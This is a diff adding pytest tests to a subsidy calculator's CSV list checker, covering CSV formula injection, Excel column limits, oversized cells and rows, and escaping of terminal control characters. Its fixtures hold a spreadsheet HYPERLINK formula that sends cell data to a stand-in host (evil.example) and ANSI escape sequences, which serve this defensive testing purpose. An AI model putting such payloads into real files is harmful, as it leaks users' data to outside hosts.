@@ -3,6 +3,8 @@ Excel writes them, bad rows reported by row and column in the visitor's language
 line, and the promise that a list and the same counts typed into the calculator agree."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
 import subprocess
@@ -13,7 +15,8 @@ import pytest
 
 from policy_bundle import ROOT
 from scripts.policy import read_policy
-from subsidy_calculator.lists import MAX_BYTES, Lists, parse_date, result_csv
+from subsidy_calculator.browser import check_list, load_rules
+from subsidy_calculator.lists import MAX_BYTES, MAX_COLUMNS, MAX_ROWS, Lists, parse_date, result_csv
 
 LIST_CASES = [c for d in read_policy(ROOT / "policy").scenarios if d.file == "scenarios/lists.yaml"
               for c in (d.data or {}).get("cases", [])]
@@ -162,6 +165,66 @@ def test_results_csv_keeps_every_column(lists) -> None:
     assert lines[1].startswith(ROWS[0] + ",甲,extra,2,有错误，未计入,")
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"点此核对")', "=1+1", "+86 138 0013 8000", "@王经理 跟进",
+            "-2+3", "\tx", "\r=1"]
+
+
+def _formula_list() -> bytes:
+    """A placements list whose names and extra column hold what Excel would run as formulas."""
+    rows = [PLACEMENT_HEADERS + ",备注"]
+    for i, cell in enumerate(FORMULAS):
+        quoted = '"' + cell.replace('"', '""') + '"'
+        rows.append(f"{quoted},城镇登记失业人员,是,是,是,是,{quoted if i % 2 else '跟进'}")
+    rows.append("=SUM(1),城镇登记失业人员,是,否,是,是,@备注")
+    return "\r\n".join(rows).encode("utf-8")
+
+
+def _no_cell_runs_as_a_formula(csv_text: str) -> list[str]:
+    """Every cell of the results file as Excel reads it: none starts as a formula; returns them."""
+    cells = [c for row in csv.reader(io.StringIO(csv_text.removeprefix("\ufeff"), newline="")) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    return cells
+
+
+def test_results_csv_shows_formulas_as_text(lists) -> None:
+    """OWASP CSV injection: a cell that starts with =, +, -, @, tab or carriage return is written with
+    a leading ', which Excel shows as text; the phone number and the name stay readable."""
+    result = lists.check(_formula_list(), None, {"agency_qualified": True}, DAY, "zh")
+    assert len(result["rows"]) == len(FORMULAS) + 1
+    cells = _no_cell_runs_as_a_formula(result_csv(result))
+    for cell in FORMULAS + ["=SUM(1)", "@备注"]:
+        assert "'" + cell in cells, cell
+    assert "'+86 138 0013 8000" in cells and "'@王经理 跟进" in cells and "城镇登记失业人员" in cells
+
+
+def test_too_many_columns_are_cut_at_excels_limit_and_said(lists, rules) -> None:
+    """A list with a million columns: the first 16,384 (Excel's) are read, the summary says so, and
+    the page is sent only the list's own columns to draw (the results file keeps the rest)."""
+    wide = ",".join(f"c{i}" for i in range(1_000_000 - 6))
+    text = "\n".join([PLACEMENT_HEADERS + "," + wide, ROWS[0]]).encode("utf-8")
+    result = lists.check(text, None, {"agency_qualified": True}, DAY, "en")
+    assert len(result["header"]) == MAX_COLUMNS and [r["status"] for r in result["rows"]] == ["counted"]
+    assert "The file has 1,000,000 columns; only the first 16,384 (as many as an Excel sheet holds) were read." \
+        in " ".join(result["summary"])
+    assert any(line.endswith(", and 16,358 more.") for line in result["summary"])  # 20 named
+    load_rules(json.dumps(rules.bundle))
+    sent = json.loads(check_list(text, json.dumps({"answers": {"agency_qualified": True}, "on": DAY, "lang": "en",
+                                                   "show_rows": 10})))
+    assert sent["header"] == PLACEMENT_HEADERS.split(",") and len(sent["rows"][0]["cells"]) == 6
+    assert sent["csv"].splitlines()[0].count(",") == MAX_COLUMNS + 3
+
+
+def test_long_cells_and_row_counts_are_reported_as_they_are(lists) -> None:
+    long_name = "张" * 200_000  # above csv's default field limit (131,072)
+    result = lists.check("\n".join([PLACEMENT_HEADERS, long_name + ROWS[0][2:]]).encode("utf-8"), None,
+                         {"agency_qualified": True}, DAY, "zh")
+    assert not result["problems"] and result["rows"][0]["cells"][0] == long_name
+    many = "\n".join([PLACEMENT_HEADERS] + [ROWS[0]] * (MAX_ROWS + 2) + ["", ",,,"]).encode("utf-8")
+    result = lists.check(many, None, {}, DAY, "en")
+    assert [p["message"] for p in result["problems"]] == [
+        f"The list has {MAX_ROWS + 2:,} rows, more than the limit of {MAX_ROWS:,}. Split it into several files and check each."]
+
+
 def test_command_line_prints_the_same_result(tmp_path, lists) -> None:
     bundle = tmp_path / "rules.json"
     from policy_bundle import build_test_bundle
@@ -179,5 +242,14 @@ def test_command_line_prints_the_same_result(tmp_path, lists) -> None:
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")
     api = lists.check(placements.read_bytes(), None, {}, DAY, "zh")
     assert out.read_bytes().decode("utf-8") == result_csv(api)
+    # a list with formulas and control characters: the results file shows them as text, the
+    # terminal gets them escaped (not a cleared screen or a new window title)
+    placements.write_bytes(_formula_list().replace("跟进".encode(), b"\x1b[2J\x1b]0;title\x07"))
+    assert run("--format", "csv", "--out", str(out)).returncode in (0, 1)
+    _no_cell_runs_as_a_formula(out.read_bytes().decode("utf-8"))
+    placements.write_bytes("\n".join([PLACEMENT_HEADERS, "\x1b[2J王五\u202e" + ROWS[0][2:]]).encode("utf-8"))
+    shown = run("--lang", "zh", "--answer", "agency_qualified=是").stdout
+    assert "\\x1b[2J王五\\u202e" in shown and "\x1b" not in shown and "\u202e" not in shown
+    placements.write_bytes("\n".join([PLACEMENT_HEADERS, *ROWS]).encode("gb18030"))
     as_json = json.loads(run("--format", "json", "--lang", "en").stdout)
     assert as_json["totals"] == json.loads(json.dumps(lists.check(placements.read_bytes(), None, {}, DAY, "en")["totals"]))
